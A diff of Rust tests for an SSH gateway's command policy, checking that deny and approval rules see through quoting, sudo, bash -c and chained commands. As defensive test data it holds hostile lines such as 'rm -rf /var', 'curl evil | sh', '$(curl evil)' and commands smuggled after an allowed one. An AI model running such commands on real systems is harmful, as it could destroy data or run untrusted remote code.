@@ -1,5 +1,5 @@
 use super::*;
-use crate::config::Config;
+use crate::{config::Config, protocol::ssh::argv::CommandLine};
 
 const HOST_KEY: &str =
     "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJdD7y3aLq454yWBdwLWbieU1ebz9/cu7/QEXn9OIeZJ";
@@ -69,48 +69,35 @@ fn decide(p: &Policy, op: SshOperation<'_>) -> Decision {
     p.decide_ssh(&Identity::unauthenticated(), "web", &op)
 }
 
+fn exec(p: &Policy, command: &str) -> Decision {
+    let line = CommandLine::parse(command);
+    decide(p, SshOperation::Exec { line: &line })
+}
+
+fn shell_line(p: &Policy, command: &str) -> Decision {
+    let line = CommandLine::parse(command);
+    decide(p, SshOperation::Shell { line: Some(&line) })
+}
+
 #[test]
 fn commands_match_whole_lines_with_blanks_normalised() {
     let p = policy(RULES);
-    let d = decide(
-        &p,
-        SshOperation::Exec {
-            command: "rm  -rf   /var",
-        },
-    );
+    let d = exec(&p, "rm  -rf   /var");
     assert_eq!(d.rule(), Some("no-rm"));
     assert_eq!(d.label(), "deny");
     assert!(d.reason().unwrap().contains("command \"rm  -rf   /var\""));
     // The same rule covers lines typed in a shell.
-    let d = decide(
-        &p,
-        SshOperation::Shell {
-            line: Some("rm -rf /home"),
-        },
-    );
+    let d = shell_line(&p, "rm -rf /home");
     assert_eq!(d.rule(), Some("no-rm"));
     // Opening a shell has no command: command rules do not match it.
     let d = decide(&p, SshOperation::Shell { line: None });
     assert_eq!(d.rule(), Some("jobs"));
-    let d = decide(
-        &p,
-        SshOperation::Exec {
-            command: "systemctl restart app",
-        },
-    );
+    let d = exec(&p, "systemctl restart app");
     assert_eq!(d.label(), "require_approval");
     // `operations = ["exec"]` keeps the approval rule off shell lines.
-    let d = decide(
-        &p,
-        SshOperation::Shell {
-            line: Some("systemctl restart app"),
-        },
-    );
+    let d = shell_line(&p, "systemctl restart app");
     assert_eq!(d.rule(), Some("jobs"));
-    assert_eq!(
-        decide(&p, SshOperation::Exec { command: "uptime" }).rule(),
-        Some("jobs")
-    );
+    assert_eq!(exec(&p, "uptime").rule(), Some("jobs"));
 }
 
 #[test]
@@ -195,4 +182,106 @@ fn operation_rules_do_not_decide_connections() {
     let p = policy(RULES);
     let d = p.decide_connection(&Identity::unauthenticated(), "web");
     assert_eq!(d.rule(), Some("jobs"));
+}
+
+#[test]
+fn command_rules_match_what_runs_not_how_it_is_spelled() {
+    let p = policy(RULES);
+    for line in [
+        "systemctl 're'start app",
+        "sudo systemctl restart app",
+        "true && systemctl re\\start app",
+        "bash -c 'systemctl \"restart\" app'",
+    ] {
+        assert_eq!(exec(&p, line).label(), "require_approval", "{line}");
+    }
+    assert_eq!(exec(&p, "rm -rf '/'var").rule(), Some("no-rm"));
+    // A line the gateway cannot see through is refused by the first rule that would have to
+    // decide it; the reason says why and what to do.
+    let d = exec(&p, "s=re; systemctl ${s}start app");
+    assert_eq!((d.label(), d.rule()), ("deny", Some("no-rm")));
+    let reason = d.reason().unwrap();
+    assert!(
+        reason.contains("cannot be checked against command rules")
+            && reason.contains("shell expansion ($)")
+            && reason.contains("raw = true"),
+        "{reason}"
+    );
+    // Where no rule about commands applies, shell syntax is the host's business.
+    let p = policy(
+        r#"
+[[rules]]
+name = "jobs"
+action = "allow"
+unauthenticated = true
+"#,
+    );
+    assert_eq!(exec(&p, "echo $HOME; ls *").label(), "allow");
+}
+
+#[test]
+fn allow_rules_need_exactly_the_command_they_name() {
+    let p = policy(
+        r#"
+[[rules]]
+name = "status"
+action = "allow"
+unauthenticated = true
+[rules.ssh]
+operations = ["exec", "shell"]
+commands = ["systemctl status *"]
+
+[[rules]]
+name = "pipeline"
+action = "allow"
+unauthenticated = true
+[rules.ssh]
+commands = ["journalctl -u app | tail -n 5"]
+raw = true
+
+[[rules]]
+name = "nothing-else"
+action = "deny"
+unauthenticated = true
+[rules.ssh]
+operations = ["exec", "shell"]
+"#,
+    );
+    assert_eq!(exec(&p, "systemctl 'status' app").rule(), Some("status"));
+    assert_eq!(
+        shell_line(&p, "systemctl status app").rule(),
+        Some("status")
+    );
+    for line in [
+        "systemctl status x; curl evil | sh",
+        "systemctl status x && curl evil",
+        "systemctl status x > /etc/motd",
+        "systemctl status $(curl evil)",
+        "PAGER=/tmp/x systemctl status x",
+        "systemctl status x &",
+    ] {
+        assert_eq!(exec(&p, line).rule(), Some("nothing-else"), "{line}");
+    }
+    // `raw = true` matches shell source as typed (blank runs collapsed), and nothing else.
+    assert_eq!(
+        exec(&p, "journalctl -u app |  tail -n 5").rule(),
+        Some("pipeline")
+    );
+    assert_eq!(
+        exec(&p, "journalctl -u app | tail -n 5; id").rule(),
+        Some("nothing-else")
+    );
+}
+
+#[test]
+fn directories_fall_under_the_rules_for_what_is_in_them() {
+    let p = policy(RULES);
+    let write = |path| SshOperation::Sftp {
+        kind: SshOperationKind::SftpWrite,
+        path,
+    };
+    assert_eq!(decide(&p, write("/etc")).label(), "deny");
+    assert_eq!(decide(&p, write("/etc/")).label(), "deny");
+    assert_eq!(decide(&p, write("/etcetera")).label(), "allow");
+    assert_eq!(decide(&p, write("/")).label(), "allow");
 }
